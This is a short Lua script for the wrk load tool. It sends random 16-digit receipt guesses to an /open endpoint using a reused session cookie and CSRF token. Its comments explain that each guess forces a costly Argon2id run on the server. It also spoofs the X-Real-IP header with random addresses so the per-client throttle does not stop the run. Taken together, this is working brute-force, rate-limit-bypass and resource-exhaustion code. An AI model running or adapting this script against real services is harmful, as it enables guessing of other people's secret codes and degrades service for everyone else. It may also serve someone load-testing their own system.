-- wrk script: receipt guesses against /open, each costing the server one Argon2id run.
-- VD_COOKIE and VD_CSRF come from a page fetched first; X-Real-IP varies so the per-client
-- throttle (keyed on it behind the trusted proxy) does not cut the run short.
local cookie = os.getenv("VD_COOKIE")
local csrf = os.getenv("VD_CSRF")
math.randomseed(os.time())
request = function()
  local digits = {}
  for i = 1, 16 do digits[i] = tostring(math.random(0, 9)) end
  local headers = {
    ["Content-Type"] = "application/x-www-form-urlencoded",
    ["Cookie"] = cookie,
    ["X-Real-IP"] = "198.18." .. math.random(0, 255) .. "." .. math.random(1, 254),
  }
  return wrk.format("POST", "/open", headers, "csrf=" .. csrf .. "&receipt=" .. table.concat(digits))
end
